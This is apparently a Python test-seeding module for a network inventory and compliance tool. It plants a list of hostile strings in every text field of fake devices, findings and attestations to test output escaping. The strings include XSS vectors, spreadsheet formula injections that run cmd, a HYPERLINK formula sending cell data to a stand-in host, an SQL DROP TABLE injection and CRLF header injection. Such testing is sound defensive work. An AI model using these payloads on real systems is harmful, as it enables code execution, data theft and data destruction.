"""A register made only of payloads: what a device, a neighbour or a person might say to hurt whoever reads it."""

from collections.abc import Iterator
from datetime import date, timedelta

from sqlalchemy import insert

from collector import tables as t
from collector.store import Store
from tests.collector.seed import LAST, NOW, SITE, TENANT, Device

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    '=HYPERLINK("http://203.0.113.9/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "\x1b[31mred\x1b[0m\x1b]0;title\x07",
    "\u202egnp.exe\u202c",
    "{{ 7*7 }}{% for x in y %}",
    '#import "x"; #panic("no") $ * _ @ref \\ ` <label>',
    "name\r\nSet-Cookie: a=b",
    "\u0000\u0001nul",
    "😀 你好 \u0645\u0631\u062d\u0628\u0627 \U000e0001",
    "x" * 256,
    "' OR 1=1; DROP TABLE entry; --",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "--></style></script><script>alert(1)</script>",
)
KINDS = ("switch", "ap", "firewall", "server", "printer", "camera", "endpoint", "unknown")


def hostile_devices() -> list[Device]:
    """One device of each payload, in every field, plugged into the one before it."""
    made = list(_devices())
    for number, device in enumerate(made, 1):
        device.number = number
    return made


def _devices() -> Iterator[Device]:
    for at, words in enumerate(PAYLOADS):
        before = PAYLOADS[at - 1] if at else ""
        owned = dict.fromkeys(("tag", "room", "building", "notes", "supplier", "warranty_end", "disposal"), words)
        yield Device(
            words,
            KINDS[at % len(KINDS)],
            words,
            words,
            words,
            words,
            words,
            ip=f"10.66.0.{at + 1}",
            on=before,
            port=words,
            location=words,
            owned=owned if at % 2 else {},
            ports=3,
        )


def plant_words(store: Store) -> None:
    """Each payload as a finding, a change, an attestation and an acceptance, in every field that holds words."""
    with store.writing() as conn:
        for at, words in enumerate(PAYLOADS):
            here = {"tenant": TENANT, "site": SITE.id}
            doubt = {"alert": f"{at} {words}", "kind": "plausibility", "subject": words, "body": words, "made": NOW}
            conn.execute(insert(t.alert).values(**here, **doubt, done=[]))
            said = {"role": words, "on": LAST, "until": LAST + timedelta(days=at + 1), "at": NOW, "person": words}
            conn.execute(
                insert(t.attestation).values(
                    **here,
                    **said,
                    attestation=f"h{at}",
                    clause="governance.vision",
                    who=words,
                    document=words,
                    statement=words,
                )
            )
            conn.execute(
                insert(t.acceptance).values(
                    **here,
                    **said,
                    acceptance=f"h{at}",
                    clause="cyber.fw.firmware",
                    key=f"h{at}",
                    reason=words,
                    measure=words,
                )
            )
            conn.execute(
                insert(t.finding).values(
                    **here,
                    key=f"h{at}",
                    opened=date(2026, 11, 20),
                    last=LAST,
                    vantage=words,
                    clause="cyber.fw.firmware",
                    edition=words,
                    subject="site",
                    label=words,
                    verdict="not-met-now",
                    sentence=words,
                    severity="high",
                    responsible=words,
                    closes_with=words,
                    evidence=[{"what": words, "value": words, "source": words, "target": words}],
                )
            )
            conn.execute(
                insert(t.change).values(
                    **here,
                    change=f"h{at}",
                    night=LAST,
                    vantage=words,
                    kind=words,
                    entry=None,
                    subject=words,
                    before=words,
                    after=words,
                    sentence=words,
                    evidence=[],
                    benign=bool(at % 2),
                )
            )
